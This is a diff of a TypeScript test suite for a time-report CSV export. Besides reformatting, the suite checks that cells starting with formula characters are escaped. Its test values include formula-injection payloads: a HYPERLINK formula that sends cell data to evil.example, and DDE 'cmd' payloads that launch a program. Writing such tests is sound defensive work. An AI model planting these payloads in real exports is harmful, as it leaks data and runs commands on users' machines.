@@ -22,16 +22,41 @@ function report(name: string): TimeReport {
     time_zone: 'Europe/Berlin',
     now: '2031-04-01T00:00:00.000Z',
     scope: 'all',
-    rows: [{ workspace_id: W, workspace_name: name, card_id: C, card_name: name, user_id: U, user_name: name, seconds: 5400, running: false }],
+    rows: [
+      {
+        workspace_id: W,
+        workspace_name: name,
+        card_id: C,
+        card_name: name,
+        user_id: U,
+        user_name: name,
+        seconds: 5400,
+        running: false,
+      },
+    ],
     days: [{ day: '2031-03-02', workspace_id: W, user_id: U, seconds: 5400 }],
     entries: [
       {
-        day: '2031-03-02', workspace_id: W, workspace_name: name, card_id: C, card_name: name, user_id: U, user_name: name,
-        label_ids: [L], started_at: '2031-03-02T09:00:00.000Z', ended_at: '2031-03-02T10:30:00.000Z', seconds: 5400, running: false,
+        day: '2031-03-02',
+        workspace_id: W,
+        workspace_name: name,
+        card_id: C,
+        card_name: name,
+        user_id: U,
+        user_name: name,
+        label_ids: [L],
+        started_at: '2031-03-02T09:00:00.000Z',
+        ended_at: '2031-03-02T10:30:00.000Z',
+        seconds: 5400,
+        running: false,
       },
     ],
     total_seconds: 5400,
-    filters: { workspaces: [{ id: W, name }], users: [{ id: U, name }], labels: [{ id: L, name, color_hex: 'ff0000', workspace_id: W }] },
+    filters: {
+      workspaces: [{ id: W, name }],
+      users: [{ id: U, name }],
+      labels: [{ id: L, name, color_hex: 'ff0000', workspace_id: W }],
+    },
   };
 }
 
@@ -46,8 +71,25 @@ async function tables(r: TimeReport): Promise<{ totals: string[][]; entries: str
 describe('timeReportCsv', () => {
   it('writes the totals, then one line per entry with labels and start and end in the report’s zone', async () => {
     const { totals, entries } = await tables(report('Hero banner'));
-    expect(totals).toEqual([[...CSV_HEADER], ['2031-03-01', '2031-03-31', 'Hero banner', 'Hero banner', 'Hero banner', '1:30', '1.50'], ['2031-03-01', '2031-03-31', 'Total', '', '', '1:30', '1.50']]);
-    expect(entries).toEqual([[...CSV_ENTRY_HEADER], ['2031-03-02', 'Hero banner', 'Hero banner', 'Hero banner', 'Hero banner', '2031-03-02 10:00', '2031-03-02 11:30', '1:30', '1.50']]);
+    expect(totals).toEqual([
+      [...CSV_HEADER],
+      ['2031-03-01', '2031-03-31', 'Hero banner', 'Hero banner', 'Hero banner', '1:30', '1.50'],
+      ['2031-03-01', '2031-03-31', 'Total', '', '', '1:30', '1.50'],
+    ]);
+    expect(entries).toEqual([
+      [...CSV_ENTRY_HEADER],
+      [
+        '2031-03-02',
+        'Hero banner',
+        'Hero banner',
+        'Hero banner',
+        'Hero banner',
+        '2031-03-02 10:00',
+        '2031-03-02 11:30',
+        '1:30',
+        '1.50',
+      ],
+    ]);
   });
 
   it('leaves the end empty while the timer runs', async () => {
@@ -59,7 +101,7 @@ describe('timeReportCsv', () => {
   it.each([
     ['=', '=HYPERLINK("http://evil.example/?x="&A2,"Open")'],
     ['+', "+cmd|' /C calc'!A0"],
-    ['-', '-2+3+cmd|\' /C calc\'!A0'],
+    ['-', "-2+3+cmd|' /C calc'!A0"],
     ['@', '@SUM(1+1)'],
     ['tab', '\t=1+1'],
     ['CR', '\r=1+1'],
@@ -67,7 +109,16 @@ describe('timeReportCsv', () => {
   ])('writes a cell beginning with %s as text in every column of both tables', async (_name, value) => {
     const { totals, entries } = await tables(report(value));
     // Workspace, card and user of the totals; person, workspace, card and labels of the entries.
-    for (const cell of [totals[1][2], totals[1][3], totals[1][4], entries[1][1], entries[1][2], entries[1][3], entries[1][4]]) expect(cell).toBe(`'${value}`);
+    for (const cell of [
+      totals[1][2],
+      totals[1][3],
+      totals[1][4],
+      entries[1][1],
+      entries[1][2],
+      entries[1][3],
+      entries[1][4],
+    ])
+      expect(cell).toBe(`'${value}`);
     // Numbers and dates the product writes are never touched.
     expect(totals[1].slice(5)).toEqual(['1:30', '1.50']);
   });
